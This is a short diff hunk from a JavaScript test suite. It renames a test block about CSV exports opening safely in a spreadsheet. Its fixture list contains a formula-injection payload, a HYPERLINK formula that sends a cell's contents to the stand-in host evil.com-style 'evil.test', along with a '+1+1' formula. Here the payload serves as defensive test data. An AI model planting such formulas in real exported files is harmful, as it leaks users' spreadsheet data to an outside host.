@@ -43,7 +43,7 @@ describe('watchlist files with lots', () => {
   })
 })
 
-describe('CSV export a spreadsheet opens safely (issue 38, finding 4)', () => {
+describe('CSV export a spreadsheet opens safely', () => {
   const names = [
     '=HYPERLINK("https://evil.test/?"&A1,"x")',
     '+1+1',
